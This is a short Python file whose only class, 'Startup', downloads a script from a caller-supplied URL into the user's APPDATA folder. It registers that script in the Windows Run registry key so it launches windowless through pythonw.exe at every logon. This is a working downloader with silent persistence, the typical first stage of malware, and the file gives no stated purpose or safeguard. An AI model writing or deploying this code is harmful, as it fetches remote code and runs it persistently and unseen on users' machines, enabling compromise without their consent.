import os
import sys
import urllib.request

try:
    import winreg
except ImportError:
    winreg = None

RUN = r"Software\Microsoft\Windows\CurrentVersion\Run"


class Startup:
    def __init__(self, name, url):
        self.name, self.url = name, url
        self.target = os.path.join(os.environ.get("APPDATA", "."), name + ".pyw")

    def install(self):
        urllib.request.urlretrieve(self.url, self.target)
        with winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE) as key:
            cmd = f'"{os.path.join(sys.exec_prefix, "pythonw.exe")}" "{self.target}"'
            winreg.SetValueEx(key, self.name, 0, winreg.REG_SZ, cmd)
